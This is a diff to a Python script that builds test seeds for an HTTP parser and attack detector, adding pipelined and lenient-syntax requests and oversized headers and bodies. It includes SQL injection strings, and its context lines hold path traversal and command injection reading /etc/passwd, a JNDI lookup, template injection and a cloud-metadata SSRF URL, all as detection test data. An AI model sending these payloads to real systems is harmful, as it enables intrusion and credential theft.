@@ -60,6 +60,33 @@ put("conn", "regress-preface-during-101",
     rec(ws_req) + rec(ws_resp[:20], True)
     + rec(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
 
+# issue 23: what a server accepts is decoded and judged. Empty lines before
+# a request line; header syntax llhttp reads leniently (control bytes in a
+# value, bare LF) with a pipelined request behind; a parse error followed
+# by a pipelined request in the same read; a header past the event's table
+# (judged in a window); a form body past the kept prefix (body windows).
+put("conn", "h1-leading-crlf",
+    rec(b"\r\n\r\n\n" + req) + rec(resp, True))
+put("conn", "h1-crlf-own-records",
+    rec(b"\r\n") + rec(b"\r\n\r") + rec(b"\n" + req) + rec(resp, True))
+put("conn", "h1-lenient-pipelined",
+    rec(b"GET /c?id=1 HTTP/1.1\r\nHost: h\r\nX-Ctl: a\x01b\x7fc\r\n\r\n"
+        b"GET /l?id=1' OR 1=1-- HTTP/1.1\nHost: h\nX-A: b\n\n" + req)
+    + rec(resp + resp + resp, True))
+put("conn", "h1-parse-error-then-pipelined",
+    rec(b"GET /x HTTP/1.1\r\nHost: h\r\nBad Header Line\r\n\r\n\r\n"
+        b"GET /y?id=1%27%20OR%201=1-- HTTP/1.1\r\nHost: h\r\n\r\n")
+    + rec(resp + resp, True))
+many = b"".join(b"X-Pad-%d: v%d\r\n" % (i, i) for i in range(120))
+put("conn", "h1-header-past-table",
+    rec(b"GET /h HTTP/1.1\r\nHost: h\r\n" + many + b"User-Agent: 1' OR 1=1--\r\n\r\n")
+    + rec(resp, True))
+form = b"pad=" + b"a" * 9000 + b"&id=1%27%20OR%201%3D1--"
+put("conn", "h1-form-past-prefix",
+    rec(b"POST /f HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+        b"Content-Length: %d\r\n\r\n" % len(form) + form[:5000]) + rec(form[5000:])
+    + rec(resp, True))
+
 
 def frame(typ, flags, sid, payload):
     return struct.pack(">I", len(payload))[1:] + bytes([typ, flags]) + \
@@ -175,7 +202,10 @@ for i, (where, v) in enumerate([
         (1, b"/static/../../etc/passwd"), (2, b"host=127.0.0.1;cat /etc/passwd"),
         (3, b"${jndi:ldap://x/a}"), (5, b'{"name":"{{7*7}}","url":"http://169.254.169.254/"}'),
         (4, b"session=abc; q=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
-        (2, b"q=%252e%252e%252f&x=a+b")]):
+        (2, b"q=%252e%252e%252f&x=a+b"),
+        # past DP_MAX_VALUE: judged in overlapping windows (issue 23)
+        (2, b"q=" + b"(" * 6000 + b"' or 1=1--"),
+        (5, b"pad=" + b"a" * 4090 + b"&id=1%27%20OR%201%3D1--")]):
     put("detect", "seed-%d" % i, bytes([where - 1]) + v)
 lists = os.path.join(here, "..", "..", "..", "shared", "data", "payloads")
 if os.path.isdir(lists):
